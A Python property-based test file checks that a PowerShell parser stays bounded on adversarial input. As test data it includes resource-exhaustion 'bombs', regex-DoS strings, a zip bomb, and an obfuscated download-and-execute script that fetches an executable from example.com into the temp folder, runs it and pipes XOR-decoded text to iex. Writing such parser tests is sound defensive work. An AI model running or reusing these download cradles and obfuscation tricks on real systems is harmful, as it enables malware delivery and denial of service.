"""No text makes the PowerShell reader fail, hang or grow without bound."""

from __future__ import annotations

import random
import time

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tidewaiter.reading.budget import Budget
from tidewaiter.reading.powershell import decode_command, parse, script_file

PIECES = [
    "iex",
    "iwr",
    "$x",
    "$x=",
    "(",
    ")",
    "{",
    "}",
    "[",
    "]",
    "@(",
    "@{",
    "@'\n",
    "\n'@",
    "'",
    '"',
    "`",
    ";",
    "\n",
    ",",
    ".",
    "::",
    "..",
    "+",
    "-",
    "-f",
    "-join",
    "-split",
    "-replace",
    "-bxor",
    "*",
    "/",
    "%",
    "==",
    "=",
    "+=",
    "&",
    "&&",
    "if(",
    "else{",
    "foreach($i in ",
    "for(;;){",
    "while($true){",
    "do{",
    "function f{",
    "switch(",
    "try{",
    "catch{",
    "return ",
    "break",
    "[char]",
    "[int]",
    "[byte[]]",
    "New-Object ",
    "Net.WebClient",
    ".DownloadString(",
    ".Invoke(",
    ".Split(",
    ".Replace(",
    "0..9",
    "65535",
    "'a'",
    '"$x"',
    '"$(',
    "$_",
    "%{",
    "?{",
    "$env:temp\\x",
    "[Convert]::FromBase64String(",
    "[Text.Encoding]::UTF8.GetString(",
    "<#",
    "#>",
    "#",
    "–",
    "‘",
    "”",
    "\u202e",
    "\x00",
    "^",
    "!",
    "~",
    "2>",
    ">",
    ">>",
    "--%",
    "@x",
    "$($",
    "${",
    "[scriptblock]::Create(",
    "sal ",
    "gv ",
    "$args",
    "param($a)",
    "'http://example.com/x'",
    " ",
    " ",
    " ",
]

BOMBS = {
    "nested quotes": '"' * 10_000,
    "nested parentheses": "(" * 20_000,
    "nested subexpressions": '"$(' * 5_000,
    "nested blocks": "{" * 20_000,
    "nested casts": "[char]" * 5_000 + "1",
    "nested negations": "!" * 20_000,
    "nested indexes": "$a" + "[$a" * 5_000,
    "long member chain": "$a" + ".b" * 20_000,
    "long concatenation": "+".join(["'a'"] * 10_000),
    "doubling": "$a='aaaaaaaa';" + "$a=$a+$a;" * 100,
    "doubling lists": "$a=1..1000;" + "$a=$a+$a;" * 100,
    "doubling streams": "$s=New-Object Text.StringBuilder;" + "[void]$s.Append('a'*100000);" * 100,
    "repeat": "'a'*999999999",
    "big power": "$a=9999999999;" + "$a=$a*$a;" * 200,
    "big shift": "1 -shl 99999999999",
    "endless loop": "while(1 -eq 1){$i++}",
    "endless recursion": "function f{f;f};f",
    "self-run": "$a='iex $a;iex $a';iex $a",
    "self-holding list": "$a=1..300;0..299|%{$a[$_]=$a};\"$a\";iex $a;[string]::join('',$a)",
    "self-holding table": "$h=@{};$h.a=$h;$h.b=$h;iwr $h;iex \"$h\"",
    "cyclic variables": "$a='$b';$b='$a';iex $a;iex $b",
    "cyclic aliases": "sal a b;sal b a;a;b",
    "evil pattern": "('a'*5000) -match '(a+)+$b';('a'*5000) -replace '(a|a)*b','x';('a'*30000) -split 'a*a*a*b'",
    "evil wildcard": "('a'*3000) -like '*a*a*a*a*a*a*a*a*b'",
    "huge range": "0..2147483647|%{$_}",
    "huge format": "'{0,999999999}' -f 1",
    "huge width": "'a'.PadLeft(2147483647)",
    "zip bomb": "(New-Object IO.StreamReader(New-Object IO.Compression.DeflateStream((New-Object IO.MemoryStream(,[Convert]::"
    "FromBase64String('7cExAQAAAMKg9U9tCj+g" + "A" * 2000 + "'))),'Decompress'))).ReadToEnd()",
    "many commands": "a;" * 50_000,
    "many pipes": "a|" * 20_000,
    "many options": "iwr " + "-a " * 20_000,
    "many functions": "function f{x};" * 5_000,
    "only ticks": "`" * 30_000,
    "only dollars": "$" * 30_000,
    "only at signs": "@" * 30_000,
    "braces in ifs": "if(1){" * 5_000,
    "comments": "<#" * 10_000,
    "digits": "9" * 32_000,
    "surrogates": "\ud800" * 1_000 + "iwr http://example.com/x",
    "one megabyte": "iwr http://example.com/x;" + "a" * 1_000_000,
}  # fmt: skip


def bounded(text: str) -> None:
    budget = Budget()
    start = time.process_time()
    script = parse(text, budget)
    assert time.process_time() - start < 1.0  # the promise of 50 ms is measured by the benchmarks, on a quiet machine
    assert len(script.invocations) <= 1_000
    for call in script:
        for word in (*call.argv, *call.named.values()):
            assert len(word.text) <= 2_000_000


@pytest.mark.parametrize("name", BOMBS)
def test_bombs_are_bounded(name: str) -> None:
    bounded(BOMBS[name])


def test_what_stands_before_a_bomb_is_kept() -> None:
    for name in ("nested parentheses", "endless loop", "doubling", "nested blocks", "self-run"):
        script = parse("iwr http://example.com/x\n" + BOMBS[name], Budget())
        assert script.invocations[0].args == ("http://example.com/x",), name


@settings(max_examples=300, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.lists(st.sampled_from(PIECES), max_size=60))
def test_random_pieces(pieces: list[str]) -> None:
    bounded("".join(pieces))


@settings(max_examples=150, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.text(max_size=300))
def test_random_text(text: str) -> None:
    bounded(text)


def test_cut_and_changed_scripts() -> None:
    generator = random.Random(7)
    text = (
        "$u='http://example.com/a*http://example.org/b'.Split('*');foreach($x in $u){try{"
        "(&('new-'+'object') Net.WebClient).\"d`own"
        'loadFile"($x,"$env:temp\\k.exe");if((gi k).Length -ge 9){saps k -Arg @{a=1};break}}catch{}};'
        "-join(1..9|%{[char]($_ -bxor 0x35)})|iex;[regex]::Matches('abc','.')|%{$_.Value}"
    )
    for position in range(len(text)):
        bounded(text[:position])
    for _ in range(300):
        changed = list(text)
        for _ in range(3):
            changed[generator.randrange(len(changed))] = generator.choice("'\"(){}[]$`;,|&.@#-+ \n")
        bounded("".join(changed))


@settings(max_examples=200, deadline=None)
@given(st.lists(st.one_of(st.text(max_size=20), st.sampled_from(["-enc", "-c", "-f", "-w", "/e", "-", "–ec"])), max_size=6))
def test_host_arguments(args: list[str]) -> None:
    decode_command(args)
    script_file(args)
